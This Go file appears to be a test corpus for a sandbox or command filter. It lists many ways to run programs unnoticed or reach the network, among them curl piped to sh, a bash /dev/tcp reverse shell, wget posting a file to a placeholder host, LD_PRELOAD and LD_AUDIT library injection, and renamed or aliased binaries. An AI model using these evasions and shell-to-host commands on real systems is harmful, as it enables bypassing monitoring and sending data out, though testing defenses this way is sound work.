//go:build linux

package inside

const askedBy = "echo {N}"

func curl(name, before, line string) Trick {
	return sh(name, line+" -s -m 0.5 --http0.9 --noproxy '*' http://{A}/{N}").before("c=$(command -v curl); " + before).to(Dials)
}

// startSets are about how a program comes to run.
func startSets() map[string][]Trick {
	return map[string][]Trick{
		"renamed":         renamedTricks(),
		"renamed-wget":    renamedWgetTricks(),
		"renamed-busybox": renamedBusyboxTricks(),
		"loader":          loaderTricks(),
		"preload":         preloadTricks(),
		"busybox":         busyboxTricks(),
		"coreutils":       coreutilsTricks(),
		"toybox":          toyboxTricks(),
		"stdin":           stdinTricks(),
		"redirected":      redirectedTricks(),
		"redirected-zsh":  redirectedZshTricks(),
		"find":            findTricks(),
	}
}

func renamedTricks() []Trick {
	return []Trick{
		sh("piped", "curl -s -m 0.5 --http0.9 --noproxy '*' http://{A}/ | sh").to(Dials),
		bash("dev-tcp", "exec 3<>/dev/tcp/{HOST}/{PORT}; echo {N} >&3; head -n1 <&3").to(Dials),
		bash("shell-tied", "timeout -s KILL 1 bash -i >&/dev/tcp/{HOST}/{PORT} 0>&1").to(Dials),
		curl("plain", ":", "curl"),
		curl("absolute", ":", "$(command -v curl)"),
		curl("root-of-proc", ":", "/proc/self/root$(command -v curl)"),
		curl("cwd-of-proc", ":", "cd /; /proc/self/cwd$(command -v curl)"),
		curl("copied", "cp $c ./c", "./c"),
		curl("copied-dots", "cp $c '...'", "./..."),
		curl("linked", "ln -s $c l", "./l"),
		curl("linked-twice", "ln -s $c l; ln -s l m", "./m"),
		curl("as-cat", "cp $c cat", "PATH=.:$PATH cat"),
		curl("as-space", "cp $c 'git status'", "'./git status'"),
		curl("dots", ":", "/usr/bin/../bin/./curl"),
		curl("env", ":", "env curl"),
		curl("nohup", ":", "nohup curl"),
		curl("command", ":", "command curl"),
		curl("builtin-exec", ":", "exec curl"),
		curl("xargs", ":", "echo -s -m 0.5 --http0.9 --noproxy '*' http://{A}/ | xargs curl"),
		curl("find", ":", "find . -maxdepth 0 -exec curl -s -m 0.5 --http0.9 --noproxy '*' http://{A}/ \\; ; :"),
		curl("upper", "cp $c CURL", "./CURL"),
		bash("exec-a", "exec -a ls curl -s -m 0.5 --http0.9 --noproxy '*' http://{A}/").to(Dials),
		bash("hashed", "hash -p $(command -v curl) ls; ls -s -m 0.5 --http0.9 --noproxy '*' http://{A}/").to(Dials),
		sh("config", "echo 'url = http://{A}/' >.curlrc; echo noproxy=* >>.curlrc; curl -s -m 0.5 --http0.9").to(Dials),
		sh("config-file", "printf 'url=http://{A}/\\nnoproxy=*\\n' | curl -s -m 0.5 --http0.9 -K -").to(Dials),
		sh("telnet", askedBy+" | timeout 2 curl -s -m 0.5 --noproxy '*' telnet://{A}").to(Dials),
		sh("gopher", "curl -s -m 0.5 --noproxy '*' gopher://{A}/_x").to(Dials),
		sh("connect-to", "curl -s -m 0.5 --http0.9 --noproxy '*' --connect-to ::{A} http://allowed.test/").to(Dials),
		sh("resolve", "curl -s -m 0.5 --http0.9 --noproxy '*' --resolve allowed.test:{PORT}:{HOST} http://allowed.test:{PORT}/").to(Dials),
		sh("proxy", "curl -s -m 0.5 --http0.9 -x http://{A} http://allowed.test/").to(Dials),
		sh("preproxy", "curl -s -m 0.5 --preproxy socks5://{A} http://allowed.test/").to(Dials),
	}
}

func renamedWgetTricks() []Trick {
	return []Trick{
		sh("wget", "wget -q -t1 -T0.5 --no-proxy -O- http://{A}/").to(Dials),
		sh("copied", "cp $(command -v wget) w; ./w -q -t1 -T0.5 --no-proxy -O- http://{A}/").to(Dials),
		sh("config", "echo 'use_proxy=off' >c; WGETRC=$PWD/c wget -q -t1 -T0.5 -O- http://{A}/").to(Dials),
		sh("input", "echo http://{A}/ | wget -q -t1 -T0.5 --no-proxy -i- -O-").to(Dials),
		sh("askpass", "printf '#!/bin/sh\\ntouch {X}\\n' >a; chmod +x a; wget -q -t1 -T0.5 --use-askpass=$PWD/a http://127.0.0.1:1/"),
		sh("log", "wget -t1 -T0.5 -o {X} http://127.0.0.1:1/"),
		sh("body", "wget -q -t1 -T0.5 --post-file={S} --no-proxy -O- http://{A}/").to(Dials),
	}
}

func renamedBusyboxTricks() []Trick {
	return []Trick{
		sh("telnet", askedBy+" | timeout 2 busybox telnet {HOST} {PORT}").to(Dials),
		sh("linked", "ln -s $(command -v busybox) nc; "+askedBy+" | ./nc -w 2 {HOST} {PORT}").to(Dials),
		sh("nc", askedBy+" | busybox nc -w 2 {HOST} {PORT}").to(Dials),
	}
}

func loaderTricks() []Trick {
	return []Trick{
		sh("named", "cp $(command -v touch) d; chmod -x d; {LD} ./d {X}"),
		sh("absolute", "{LD} $(command -v touch) {X}"),
		sh("of-proc", "cp $(command -v touch) d; /proc/self/root{LD} ./d {X}"),
		sh("copied-loader", "cp {LD} l; cp $(command -v touch) d; ./l ./d {X}"),
		sh("linked-loader", "ln -s {LD} l; cp $(command -v touch) d; ./l ./d {X}"),
		sh("argv0", "cp $(command -v touch) d; {LD} --argv0 ls ./d {X}"),
		sh("library-path", "cp $(command -v touch) d; {LD} --inhibit-cache --library-path $(dirname $(realpath {LD})) ./d {X}"),
		bash("descriptor", "exec 9<$(command -v touch); {LD} /proc/self/fd/9 {X}"),
		sh("shell", "cp $(command -v sh) d; {LD} ./d -c 'touch {X}'"),
		bash("exec-a", "exec -a ls {LD} $(command -v touch) {X}"),
	}
}

func preloadTricks() []Trick {
	return []Trick{
		sh("option", "{LD} --preload ./l.so /bin/true").env("MAKE_IT={X}").before(library),
		sh("variable", "LD_PRELOAD=./l.so true; LD_PRELOAD=$PWD/l.so sh -c :; LD_PRELOAD=$PWD/l.so cat /dev/null").env("MAKE_IT={X}").before(library),
		sh("audit", "LD_AUDIT=$PWD/l.so cat /dev/null").env("MAKE_IT={X}").before(library),
		sh("library-path", "mkdir p; cp l.so p/libc.so.6; LD_LIBRARY_PATH=$PWD/p cat /dev/null; LD_PRELOAD=libc.so.6:$PWD/l.so cat /dev/null").env("MAKE_IT={X}").before(library),
		bash("enable", "enable -f ./l.so nothing; :").env("MAKE_IT={X}").before(library),
		sh("interpreter", "gcc -o p -Wl,--dynamic-linker=$(realpath {LD}) p.c && ./p").env("MAKE_IT={X}").before(library),
		sh("constructor", "gcc -o p p.c -L. -l:l.so -Wl,-rpath,$PWD && ./p").env("MAKE_IT={X}").before(library),
		sh("openssl", "printf 'openssl_conf=a\\n[a]\\nengines=b\\nproviders=b\\n[b]\\nc=d\\n[d]\\ndynamic_path=%s\\nmodule=%s\\nactivate=1\\n' $PWD/l.so $PWD/l.so >c; OPENSSL_CONF=$PWD/c openssl version -a; openssl list -providers -provider-path . -provider l").env("MAKE_IT={X}").before(library + "; cp l.so l"),
	}
}

func busyboxTricks() []Trick {
	return []Trick{
		sh("applet", "busybox touch {X}"),
		sh("shell", "busybox sh -c '>{X}'"),
		sh("twice", "busybox busybox touch {X}"),
		sh("linked", "ln -s $(command -v busybox) touch; ./touch {X}"),
		sh("linked-other", "cp $(command -v busybox) b; ln -s b sh; ./sh -c 'touch {X}'"),
		bash("exec-a", "exec -a touch busybox {X}"),
		sh("path", "/proc/self/root$(command -v busybox) touch {X}"),
		sh("env", "busybox env touch {X}"),
		sh("xargs", "echo {X} | busybox xargs touch"),
		sh("awk", "busybox awk 'BEGIN { printf \"\" >\"{X}\" }'"),
		sh("find", "busybox find . -maxdepth 0 -exec busybox touch {X} ';'"),
		sh("ash", "busybox ash -c 'busybox touch {X}'"),
		sh("sed", "echo a | busybox sed -n 'w {X}'"),
		sh("install-dir", "mkdir b; busybox --install -s b; b/touch {X}"),
		sh("dd", "busybox dd if=/dev/null of={X}"),
	}
}

func coreutilsTricks() []Trick {
	return []Trick{
		sh("prog", "coreutils --coreutils-prog=touch {X}"),
		sh("shebang", "coreutils --coreutils-prog-shebang=touch x {X}"),
		bash("exec-a", "exec -a touch coreutils {X}"),
	}
}

func toyboxTricks() []Trick {
	return []Trick{
		sh("applet", "toybox touch {X}"),
		sh("linked", "ln -s $(command -v toybox) touch; ./touch {X}"),
		bash("exec-a", "exec -a touch toybox {X}"),
	}
}

func stdinTricks() []Trick {
	return []Trick{
		bash("redirected", "echo 'touch {X}' >f; bash <f"),
		bash("descriptor", "echo 'touch {X}' >f; bash 0<f"),
		bash("here-string", "bash -s <<<'touch {X}'"),
		bash("here-document", "bash <<E\ntouch {X}\nE"),
		sh("piped", "echo touch {X} | sh"),
		sh("piped-s", "echo touch {X} | sh -s a b"),
		sh("dash", "echo touch {X} | sh /dev/stdin"),
		sh("proc", "echo touch {X} | sh /proc/self/fd/0"),
		sh("source", "echo touch {X} | . /dev/stdin"),
		bash("source-process", "source <(echo touch {X})"),
		bash("process", "bash <(echo touch {X})"),
		sh("dot", "echo 'touch {X}' >f; . ./f"),
		sh("while-read", "echo touch {X} | while read -r l; do $l; done"),
		sh("xargs", "echo touch {X} | xargs -I% sh -c %"),
		sh("eval-cat", "echo touch {X} >f; eval \"$(cat f)\""),
		fed("fed", "touch {X}\n", "bash"),
		fed("fed-s", "touch $1\n", "bash", "-s", "{X}"),
		fed("fed-i", "touch {X}\nexit\n", "bash", "--norc", "-i"),
		sh("fifo", "mkfifo f; echo touch {X} >f & sh f; wait"),
		sh("base64", "echo touch {X} | base64 | base64 -d | sh"),
		sh("here-tabs", "sh <<-E\n\ttouch {X}\n\tE"),
		bash("exec-descriptor", "exec 5<<<'touch {X}'; bash <&5"),
		bash("long-way", "cat <<<'touch {X}' | tee f | sh"),
		sh("env", "ENV=$PWD/f sh -i </dev/null").with(map[string]string{"f": "touch {X}\n"}),
		bash("bash-env", "BASH_ENV=$PWD/f bash -c :").with(map[string]string{"f": "touch {X}\n"}),
		bash("rcfile", "bash --rcfile f -i </dev/null").with(map[string]string{"f": "touch {X}\n"}),
		sh("shebang", "./f").with(map[string]string{"f": "#!/bin/sh\ntouch {X}\n"}),
		sh("shebang-env", "./f {X}").with(map[string]string{"f": "#!/usr/bin/env -S touch --\n"}),
		sh("no-shebang", "chmod +x f; ./f").with(map[string]string{"f": "touch {X}\n"}),
		sh("login", "bash -l </dev/null").with(map[string]string{".bash_profile": "touch {X}\n"}),
		fed("make", "all:\n\t@touch {X}\n", "make", "-s", "-f", "-"),
		fed("git", "touch {X}\n", "git", "-c", "alias.s=!sh", "s"),
	}
}

func redirectedTricks() []Trick {
	return []Trick{
		sh("create", "git show >{X}").in(),
		sh("clobber", "set -C; git show >|{X}").in(),
		sh("append", "git show >>{X}").in(),
		bash("both", "git show &>{X}").in(),
		bash("both-append", "git show &>>{X}").in(),
		sh("read-write", "git show 1<>{X}").in(),
		sh("read-write-in", "git show <>{X}").in(),
		sh("errors", "git show 2>{X}").in(),
		sh("descriptor", "git show 9>{X}").in(),
		sh("before", ">{X} git show").in(),
		sh("between", "git >{X} show").in(),
		sh("alone", ">{X}"),
		sh("group", "{ git show; } >{X}").in(),
		bash("named-descriptor", "git show {n}>{X}").in(),
		bash("variable", "git show >{X} 2>&1").in(),
		sh("function", "f() { git show; } >{X}; f").in(),
		sh("exec", "exec >{X}; git show").in(),
		sh("loop", "while :; do git show; break; done >{X}").in(),
		bash("quoted", `git show >"{X}"`).in(),
		bash("ansi", `git show >$'{X}'`).in(),
		sh("expanded", "o={X}; git show >$o").in(),
		sh("tilde", "HOME={Y}; git show >~/x-{N}").in(),
		sh("close", "git show >&- 2>{X}").in(),
		sh("tee", "git show | tee {X}").in(),
		sh("no-space", "git show>{X}").in(),
	}
}

func redirectedZshTricks() []Trick {
	return []Trick{
		zsh("clobber", "setopt noclobber; git show >!{X}").in(),
		zsh("append-pipe", "setopt noclobber; git show >>|{X}").in(),
		zsh("append-clobber", "setopt noclobber; git show >>!{X}").in(),
		zsh("both", "git show >&!{X}").in(),
		zsh("both-append", "git show >>&{X}").in(),
		zsh("both-pipe", "git show &>|{X}").in(),
		zsh("both-clobber", "git show &>!{X}").in(),
		zsh("pipe", "git show >|{X}").in(),
		zsh("multios", "git show >{X} >/dev/null").in(),
		zsh("null-command", "READNULLCMD=cat; >{X} </dev/null"),
		zsh("process", "git show > >(cat >{X}); sleep 0.2").in(),
		zsh("equals", "=touch {X}"),
		zsh("read-write", "git show 1<>{X}").in(),
	}
}

func findTricks() []Trick {
	return []Trick{
		sh("exec", "find . -maxdepth 0 -exec touch {X} ';'"),
		sh("exec-plus", "find . -maxdepth 0 -exec touch {X} {} +"),
		sh("execdir", "PATH=/usr/bin:/bin find . -maxdepth 0 -execdir touch {X} ';'"),
		sh("ok", "echo y | find . -maxdepth 0 -ok touch {X} ';'"),
		sh("okdir", "echo y | PATH=/usr/bin:/bin find . -maxdepth 0 -okdir touch {X} ';'"),
		sh("fprintf", "find . -maxdepth 0 -fprintf {X} a"),
		sh("fprint", "find . -maxdepth 0 -fprint {X}"),
		sh("fprint0", "find . -maxdepth 0 -fprint0 {X}"),
		sh("fls", "find . -maxdepth 0 -fls {X}"),
		sh("exec-shell", "find . -maxdepth 0 -exec sh -c 'touch $0' {X} ';'"),
		sh("embedded", "find . -maxdepth 0 -exec sh -c 'touch {X} # {}' ';'"),
		sh("quit", "find . -exec touch {X} ';' -quit"),
		sh("xargs", "find . -maxdepth 0 -print0 | xargs -0 sh -c 'touch {X}'"),
		sh("or", "find . -maxdepth 0 -false -o -fprintf {X} a"),
		sh("files-from", "printf '.\\0' | find -files0-from - -maxdepth 0 -fprint {X}"),
		sh("delete", "touch {Y}/doomed-{N} 2>/dev/null; find {Y} -maxdepth 1 -name doomed-{N} -delete -fprint {X}"),
	}
}

// library makes a library that makes a file when it is loaded.
const library = `cat >l.c <<'E'
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void make(void) { char *p = getenv("MAKE_IT"); if (p) close(open(p, O_CREAT | O_WRONLY, 0644)); }
unsigned la_version(unsigned v) { return v; }
E
cat >p.c <<'E'
#include <fcntl.h>
#include <stdlib.h>
int main(void) { return open(getenv("MAKE_IT"), O_CREAT | O_WRONLY, 0644) < 0; }
E
gcc -shared -fPIC -o l.so l.c`
